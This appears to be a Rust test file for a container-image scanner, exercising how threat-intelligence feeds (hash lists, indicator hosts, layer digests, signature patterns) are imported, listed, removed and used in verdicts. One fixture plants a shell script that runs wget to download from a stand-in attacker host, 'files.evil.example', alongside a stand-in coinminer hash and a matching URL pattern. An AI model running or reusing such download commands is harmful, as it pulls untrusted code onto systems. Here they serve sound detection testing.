//! Feeds: imported, listed, removed, and compared with.

use crate::room::{Ran, Room, base, image, payload, verdict};
use serde_json::Value;
use test_support::{Layer, LayerBuilder, md5_hex, sha256_digest, sha256_hex};

fn ids(report: &Value) -> Vec<&str> {
    let mut ids: Vec<_> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| finding["id"].as_str().unwrap())
        .collect();
    ids.sort_unstable();
    ids
}

/// A scan without the list of the room.
fn report(room: &Room, image: &str, more: &[&str]) -> (i32, Value) {
    let cache = room.cache().display().to_string();
    let ran = room.run(&[&["scan", "--format", "json", "--cache-dir", &cache, image], more].concat());
    (ran.code, ran.json())
}

fn done(ran: Ran) -> String {
    assert_eq!((ran.code, ran.err.as_str()), (0, ""), "{ran:?}");
    ran.out
}

#[test]
fn what_is_imported_is_listed_compared_with_and_removed() {
    let room = Room::new();
    let locator = room.layout("image", &image().layer(base().file("opt/x", 0o755, payload())).build());
    room.write("bad.hdb", format!("{}:{}:Unix.Coinminer.Standin-1\n", md5_hex(&payload()), payload().len()));
    let out = done(room.run(&["feeds", "import", "bad.hdb"]));
    assert!(out.contains("1 rows read as clamav-hashes"), "{out}");
    let out = done(room.run(&["feeds", "list"]));
    assert!(out.starts_with("bad.hdb  clamav-hashes  1 indicators  at most critical  sha256:"), "{out}");
    let (code, unasked) = report(&room, &locator, &[]);
    assert_eq!((code, verdict(&unasked)), (0, "clean"), "nothing is read unasked");
    assert_eq!(unasked["tool"]["feeds"], Value::Array(Vec::new()));
    let (code, asked) = report(&room, &locator, &["--feeds"]);
    assert_eq!((code, verdict(&asked), ids(&asked)), (1, "malicious", vec!["S-MIN-HASH"]));
    assert!(asked["tool"]["feeds"][0].as_str().unwrap().starts_with("bad.hdb@sha256:"), "{asked:#}");
    done(room.run(&["feeds", "remove", "bad.hdb"]));
    assert_eq!(done(room.run(&["feeds", "list"])), "");
    assert_eq!(report(&room, &locator, &["--feeds"]).0, 0);
    let again = room.run(&["feeds", "remove", "bad.hdb"]);
    assert!(again.code == 2 && again.err.contains("there is no feed bad.hdb"), "{again:?}");
}

#[test]
fn what_is_rejected_is_counted_with_its_reason() {
    let room = Room::new();
    let text =
        format!("{} bad\ngithub.com\nd41d8cd98f00b204e9800998ecf8427e\n\u{1b}[31m\n", sha256_hex(&payload()));
    room.write("list.txt", &text);
    let out = done(room.run(&["feeds", "import", "--name", "mine", "list.txt"]));
    for part in ["mine: 1 rows read as hashes", "3 rows rejected:", "empty file", "row 4: \\u{1b}[31m"] {
        assert!(out.contains(part), "{part}: {out}");
    }
    room.write("none.txt", "github.com\n8.8.8.8\n");
    let none = room.run(&["feeds", "import", "--kind", "network", "none.txt"]);
    assert!(
        none.code == 2 && none.err.contains("nothing was kept") && none.out.contains("everybody"),
        "{none:?}"
    );
    let locator = room.layout("image", &image().layer(base()).build());
    let scan = room.run(&["scan", "--no-cache", "--feed", "list.txt", &locator]);
    assert!(scan.code == 0 && scan.err.contains("list.txt: 1 rows taken as hashes, 3 not"), "{scan:?}");
}

#[test]
fn what_cannot_be_imported_leaves_with_2() {
    let room = Room::new();
    let check = |args: &[&str], part: &str| {
        let ran = room.run(args);
        assert_eq!((ran.code, ran.out.as_str()), (2, ""), "{ran:?}");
        assert!(ran.err.contains(part), "{part}: {ran:?}");
    };
    check(&["feeds", "import", "/nowhere.csv"], "cannot open the feed /nowhere.csv");
    room.write("digests.txt", format!("{}\n", sha256_digest(b"x")));
    check(&["feeds", "import", "digests.txt"], "images or layers");
    room.write("wide.txt", b"\xff\xfea\0");
    check(&["feeds", "import", "wide.txt"], "UTF-16");
    check(&["feeds", "import", "--name", "../x", "feed.txt"], "--name");
    check(&["feeds", "import", "--kind", "nonsense", "feed.txt"], "threatfox");
    room.write("home/.local/share/roadstead/feeds/broken.feed", "not one");
    let locator = room.layout("image", &image().layer(base()).build());
    check(&["scan", "--feeds", &locator], "broken.feed is damaged");
    check(&["feeds", "list"], "import the feed again");
}

#[test]
fn feeds_of_every_sort_decide() {
    let room = Room::new();
    let script = "#!/bin/sh\nwget -qO /tmp/x http://files.evil.example/x\n";
    let layer = LayerBuilder::new().file("opt/run.sh", 0o755, script).build();
    let digest = sha256_digest(&layer);
    let locator = room.layout("image", &image().layer(base()).layer(Layer::new(layer)).build());
    let scan = |name: &str, text: String, kind: &[&str]| {
        room.write(name, text);
        let dir = room.path(&format!("data-{name}")).display().to_string();
        done(room.run(&[&["feeds", "import", "--data-dir", &dir, name], kind].concat()));
        let (_, report) = report(&room, &locator, &["--feeds", "--data-dir", &dir]);
        (verdict(&report).to_owned(), ids(&report).join(" "))
    };
    let check = |found: (String, String), verdict: &str, ids: &str| {
        assert_eq!((found.0.as_str(), found.1.as_str()), (verdict, ids));
    };
    check(scan("hosts.txt", "evil.example\n".to_owned(), &[]), "suspicious", "S-IOC-NET");
    check(scan("low.txt", "evil.example\n".to_owned(), &["--max-severity", "low"]), "clean", "S-IOC-NET");
    check(scan("layers.txt", format!("{digest}\n"), &["--kind", "layers"]), "malicious", "S-META-BADLAYER");
    let pattern = format!("Test.A:0:*:{}\n", hex(b"http://files.evil"));
    check(scan("a.ndb", pattern, &[]), "suspicious", "S-IOC-PATTERN");
    let (_, known) = report(&room, &locator, &[]);
    assert_eq!((verdict(&known), ids(&known).len()), ("clean", 0), "facts with patterns are kept apart");
    let image = known["image"]["digest"].as_str().unwrap();
    check(scan("images.txt", format!("x@{image}\n"), &["--kind", "images"]), "malicious", "S-META-REVOKED");
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}
